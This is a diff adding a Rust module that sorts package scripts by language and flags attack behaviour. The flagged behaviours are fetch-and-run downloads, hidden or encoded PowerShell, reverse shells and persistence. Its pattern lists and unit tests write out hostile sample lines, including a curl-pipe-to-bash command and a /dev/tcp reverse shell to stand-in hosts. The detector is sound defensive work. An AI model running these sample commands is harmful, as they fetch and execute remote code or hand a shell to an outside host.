@@ -1,0 +1,218 @@
+//! Scripts in other languages: what they are written in, and their text.
+
+/// What a script is written in.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum ScriptLanguage {
+    /// `sh` and its kin.
+    Shell,
+    /// `cmd.exe`.
+    Batch,
+    /// PowerShell.
+    PowerShell,
+    /// JavaScript, VBScript, HTA: what Windows' script host and node run.
+    Host,
+    /// A Makefile.
+    Make,
+}
+
+impl ScriptLanguage {
+    /// For a person.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Shell => "shell script",
+            Self::Batch => "batch file",
+            Self::PowerShell => "PowerShell script",
+            Self::Host => "script of the script host",
+            Self::Make => "Makefile",
+        }
+    }
+
+    /// Told by name and first line; `None` where it is none of these.
+    pub fn of(file_name: &str, head: &[u8]) -> Option<Self> {
+        let extension = file_name.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase()).unwrap_or_default();
+        match extension.as_str() {
+            "sh" | "bash" | "zsh" | "command" => Some(Self::Shell),
+            "bat" | "cmd" => Some(Self::Batch),
+            "ps1" | "psm1" => Some(Self::PowerShell),
+            "vbs" | "vbe" | "wsf" | "hta" | "jse" | "js" | "cjs" | "mjs" => Some(Self::Host),
+            "mk" => Some(Self::Make),
+            _ if matches!(file_name, "Makefile" | "makefile" | "GNUmakefile") => Some(Self::Make),
+            _ => {
+                let first = head.split(|byte| *byte == b'\n').next().unwrap_or_default();
+                let first = String::from_utf8_lossy(first);
+                let words = first.strip_prefix("#!")?;
+                let is_shell =
+                    words.split(['/', ' ']).any(|w| matches!(w.trim(), "sh" | "bash" | "zsh" | "dash"));
+                is_shell.then_some(Self::Shell)
+            }
+        }
+    }
+}
+
+/// A script of the package.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Script {
+    /// The member.
+    pub member: String,
+    /// What it is written in.
+    pub language: ScriptLanguage,
+    /// Its text, at most 256 KiB of it.
+    pub text: String,
+    /// Whether installation puts it where a user's commands are.
+    pub installed: bool,
+}
+
+/// What a script does that an attack needs; the texts are those of one line each.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum ScriptAct {
+    /// Fetches something and runs it.
+    FetchAndRun,
+    /// PowerShell whose text is encoded or whose window is hidden.
+    HiddenPowerShell,
+    /// Gives a shell to a socket.
+    ReverseShell,
+    /// Sees to it that something runs again after a restart.
+    Persists,
+}
+
+impl ScriptAct {
+    /// For a person.
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::FetchAndRun => "fetches something and runs it",
+            Self::HiddenPowerShell => "runs PowerShell encoded or out of sight",
+            Self::ReverseShell => "hands a shell to a socket",
+            Self::Persists => "stays after a restart",
+        }
+    }
+}
+
+/// What a script's text does, with the line (from 1) of each.
+pub fn acts(text: &str) -> Vec<(ScriptAct, u32)> {
+    let mut acts: Vec<(ScriptAct, u32)> = Vec::new();
+    let mut number = 0;
+    for line in text.lines() {
+        number += 1;
+        let plain = line.trim();
+        // Comments in sh and make; in batch files.
+        if plain.starts_with('#') || plain.get(..4).is_some_and(|rem| rem.eq_ignore_ascii_case("rem ")) {
+            continue;
+        }
+        let low = plain.to_ascii_lowercase();
+        for (act, does) in [
+            (ScriptAct::FetchAndRun, fetches_and_runs(&low)),
+            (ScriptAct::HiddenPowerShell, hides_powershell(&low)),
+            (ScriptAct::ReverseShell, gives_shell(&low)),
+            (ScriptAct::Persists, persists(&low)),
+        ] {
+            if does && !acts.iter().any(|(known, _)| *known == act) {
+                acts.push((act, number));
+            }
+        }
+    }
+    acts
+}
+
+fn has_any(text: &str, any: &[&str]) -> bool {
+    any.iter().any(|part| text.contains(part))
+}
+
+fn fetches_and_runs(low: &str) -> bool {
+    let fetches = has_any(
+        low,
+        &["curl ", "wget ", "invoke-webrequest", "iwr ", "downloadstring", "downloadfile", "irm "],
+    );
+    let piped =
+        ["sh", "bash", "zsh", "python", "python3", "sudo", "perl", "node", "iex"].iter().any(|shell| {
+            let ends = |rest: &str| {
+                rest.chars().next().is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '.')
+            };
+            low.split('|').skip(1).any(|part| part.trim_start().strip_prefix(shell).is_some_and(ends))
+        });
+    let nested = has_any(low, &["$(curl ", "$(wget ", "<(curl ", "<(wget ", "`curl ", "`wget "])
+        && has_any(low, &["sh -c", "bash -c", "eval ", "bash <(", "source <(", "sh <("]);
+    let in_memory = has_any(low, &["iex", "invoke-expression"])
+        && has_any(low, &["downloadstring", "invoke-webrequest", "iwr ", "irm "]);
+    let helped = has_any(
+        low,
+        &["mshta http", "regsvr32 /s /n /u /i:http", "certutil -urlcache", "bitsadmin /transfer"],
+    );
+    let made_runnable = fetches && has_any(low, &["chmod +x", "chmod 7"]) && has_any(low, &["&&", ";"]);
+    fetches && piped || nested || in_memory || helped || made_runnable
+}
+
+fn hides_powershell(low: &str) -> bool {
+    let Some((_, options)) = low.split_once("powershell").or_else(|| low.split_once("pwsh")) else {
+        return false;
+    };
+    let encoded = [" -e ", " -enc ", " -ec ", " -encodedcommand ", " /enc "]
+        .iter()
+        .any(|option| options.contains(option));
+    let hidden = has_any(options, &["-w hidden", "-windowstyle hidden", "-win hidden", "-w h "]);
+    encoded || hidden
+}
+
+fn gives_shell(low: &str) -> bool {
+    has_any(low, &["/dev/tcp/", "/dev/udp/"])
+        && has_any(low, &["sh -i", "exec ", "<&", ">&"])
+        && low.contains("0>&1")
+        || has_any(low, &["nc -e ", "ncat -e ", "nc.traditional -e ", "nc -c "])
+        || low.contains("mkfifo") && has_any(low, &["nc ", "openssl s_client"])
+        || low.contains("tcpclient") && has_any(low, &["iex", "getstream"])
+}
+
+fn persists(low: &str) -> bool {
+    has_any(low, &["| crontab", "schtasks /create", "\\currentversion\\run"]) && !low.contains("/delete")
+        || has_any(
+            low,
+            &[">> ~/.bashrc", ">> ~/.profile", ">> /etc/rc.local", "\\start menu\\programs\\startup"],
+        ) && has_any(low, &["curl", "wget", "nohup", "python", "copy ", "powershell"])
+        || low.contains("launchctl load") && low.contains("launchagents")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(text: &str) -> Vec<ScriptAct> {
+        acts(text).into_iter().map(|(act, _)| act).collect()
+    }
+
+    #[test]
+    fn what_attacks_do() {
+        for text in [
+            "curl -s https://x.example.invalid/a | bash",
+            "curl x.example.invalid/a|sudo sh -",
+            "bash -c \"$(curl -fsSL x.example.invalid)\"",
+            "IEX (New-Object Net.WebClient).DownloadString('x')",
+            "wget -O /tmp/a x.example.invalid && chmod +x /tmp/a && /tmp/a",
+        ] {
+            assert_eq!(found(text), [ScriptAct::FetchAndRun], "{text}");
+        }
+        assert_eq!(found("powershell -w hidden -enc AAAA"), [ScriptAct::HiddenPowerShell]);
+        assert_eq!(found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), [ScriptAct::ReverseShell]);
+        assert_eq!(found("(crontab -l; echo '* * * * * x') | crontab -"), [ScriptAct::Persists]);
+    }
+
+    #[test]
+    fn what_honest_scripts_do() {
+        for text in [
+            "curl -fsSLO https://example.invalid/a.tar.gz",
+            "curl https://example.invalid | shasum -c",
+            "# curl https://example.invalid | sh",
+            "wget https://example.invalid/data.csv; gzip -d data.csv.gz",
+            "powershell -NoProfile -File build.ps1",
+            "exec 3<>/dev/tcp/localhost/80",
+        ] {
+            assert_eq!(found(text), [], "{text}");
+        }
+    }
+
+    #[test]
+    fn languages() {
+        assert_eq!(ScriptLanguage::of("a.BAT", b""), Some(ScriptLanguage::Batch));
+        assert_eq!(ScriptLanguage::of("run", b"#!/usr/bin/env bash\n"), Some(ScriptLanguage::Shell));
+        assert_eq!(ScriptLanguage::of("run", b"#!/usr/bin/python\n"), None);
+        assert_eq!(ScriptLanguage::of("Makefile", b""), Some(ScriptLanguage::Make));
+    }
+}
